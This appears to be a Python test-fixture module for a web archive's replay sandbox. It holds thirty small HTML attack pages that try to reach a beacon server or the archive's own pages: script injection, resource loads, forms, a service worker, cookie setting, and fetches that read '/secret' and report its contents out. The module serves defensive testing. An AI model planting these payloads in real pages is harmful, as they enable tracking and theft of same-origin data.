"""Thirty pages that try to get out of an archive: to the network, into our own pages, or to stay behind.

Each is a page as it might have been captured. ``{beacon}`` is a server that counts who comes, by the attack's name;
``/secret`` stands for any page of ours; ``report(text)`` is what a script of such a page would call.
"""

from __future__ import annotations

_REPORT = "function report(t){{new Image().src='{beacon}/NAME?'+encodeURIComponent(t)}}"

CLICKED = {"link-script", "link-ping", "link-top", "link-out", "form-get", "form-post"}
"""Attacks that wait for a click on ``#go``."""

ATTACKS: dict[str, str] = {
    "script-inline": "<script>report('ran')</script>",
    "script-file": "<script src='{beacon}/script-file'></script>",
    "image": "<img src='{beacon}/image'>",
    "image-error": "<img src='data:,' onerror=\"report('ran')\">",
    "svg-load": "<svg onload=\"report('ran')\"></svg>",
    "style-url": "<div style=\"background:url('{beacon}/style-url')\">x</div>",
    "style-import": "<style>@import '{beacon}/style-import';</style>",
    "style-font": "<style>@font-face{{font-family:f;src:url('{beacon}/style-font')}}*{{font-family:f}}</style>x",
    "link-sheet": "<link rel=stylesheet href='{beacon}/link-sheet'>",
    "link-prefetch": "<link rel=prefetch href='{beacon}/link-prefetch'>",
    "link-preload": "<link rel=preload as=image href='{beacon}/link-preload'>",
    "frame": "<iframe src='{beacon}/frame'></iframe>",
    "frame-srcdoc": "<iframe srcdoc=\"<script>new Image().src='{beacon}/frame-srcdoc'</script>\"></iframe>",
    "object": "<object data='{beacon}/object'></object>",
    "embed": "<embed src='{beacon}/embed'>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url={beacon}/meta-refresh'>",
    "video": "<video src='{beacon}/video' poster='{beacon}/video' preload=auto autoplay></video>",
    "form-get": "<form action='{beacon}/form-get'><button id=go>go</button></form>",
    "form-post": "<form method=post action='{beacon}/form-post'><button id=go>go</button></form>",
    "link-script": "<a id=go href=\"javascript:report('ran')\">go</a>",
    "link-ping": "<a id=go href='#x' ping='{beacon}/link-ping'>go</a>",
    "link-top": "<iframe srcdoc=\"<a id=go target=_top href='{beacon}/link-top'>go</a>\"></iframe>",
    "base": "<base href='{beacon}/'><img src='base'>",
    "worker": (
        "<script>navigator.serviceWorker.register('/web/{stamp}id_/{origin}/worker.js',{{scope:'/web/'}})"
        ".then(()=>report('registered'),e=>report('worker refused'))</script>"
    ),
    "cookie": "<script>document.cookie='stolen=1;path=/';report(document.cookie||'no cookie')</script>",
    "read-ours": "<script>fetch('/secret').then(r=>r.text()).then(t=>report(t)).catch(()=>0)</script>",
    "post-ours": "<script>fetch('/secret',{{method:'POST',body:'x'}}).then(()=>report('posted')).catch(()=>0)</script>",
    "form-ours": "<form id=f method=post action='/secret'></form><script>f.submit()</script>",
    "opener": "<script>window.open('{beacon}/opener')</script>",
    "template": (
        "<div><template shadowrootmode=open><style>@import '{beacon}/template';</style>"
        "<img src='{beacon}/template'></template></div>"
    ),
}
"""Markup by name."""


def page(name: str, *, beacon: str, stamp: str, origin: str) -> bytes:
    """The page of an attack."""
    body = f"<!doctype html><title>{name}</title><script>{_REPORT}</script>{ATTACKS[name]}"
    return body.replace("NAME", name).format(beacon=beacon, stamp=stamp, origin=origin).encode()


OUTBOUND = "<!doctype html><title>out</title><a id=go href='{beacon}/link-out'>go</a>"
"""What is no attack: a link somebody follows."""

WORKER = b"self.addEventListener('fetch',()=>{});"
"""A service worker, as it might have been captured."""
